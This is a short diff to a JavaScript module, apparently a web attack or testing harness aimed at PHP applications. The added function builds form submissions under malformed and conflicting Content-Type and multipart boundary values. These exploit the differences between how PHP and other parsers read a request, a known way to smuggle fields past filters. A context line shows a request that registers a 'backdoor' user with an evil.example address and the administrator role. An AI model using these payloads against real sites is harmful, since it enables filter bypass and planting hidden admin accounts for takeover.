@@ -3,6 +3,18 @@
 const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
 const JSON_BODY = { 'content-type': 'application/json', accept: 'application/json' };
 
+// By each of these PHP reads a form: it cuts the line at `;`, `,` and blanks, and takes the first boundary that it finds.
+const KINDS = ['application/x-www-form-urlencoded;\xff', 'application/x-www-form-urlencoded,\xe9', 'application/x-www-form-urlencoded; charset=utf-7'];
+const PARTS = ['multipart/form-data; x=\xff; boundary=AAA', 'multipart/form-data; charset=boundary; charset=BBB; boundary=AAA', 'multipart/form-data; Boundary=AAA; charset=boundary; charset=BBB'];
+
+/** The same fields in every form that PHP reads and others may not: type and body of each. */
+export function formsOfPhp(fields) {
+  const parts = (boundary) => `${Object.entries(fields).map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`).join('')}--${boundary}--\r\n`;
+  const within = `--AAA\r\nContent-Disposition: form-data; name="x"\r\n\r\n${parts('BBB')}\r\n--AAA--\r\n`;
+  const plain = KINDS.map((kind) => [kind, new URLSearchParams(fields).toString()]);
+  return [...plain, ...PARTS.map((kind) => [kind, kind.includes('BBB') ? within : parts('AAA')])];
+}
+
 /** What only staff may. */
 export function ofTheBackOffice(base) {
   const user = 'username=backdoor&email=b%40evil.example&password=nine+green+lamps&roles[]=administrator';
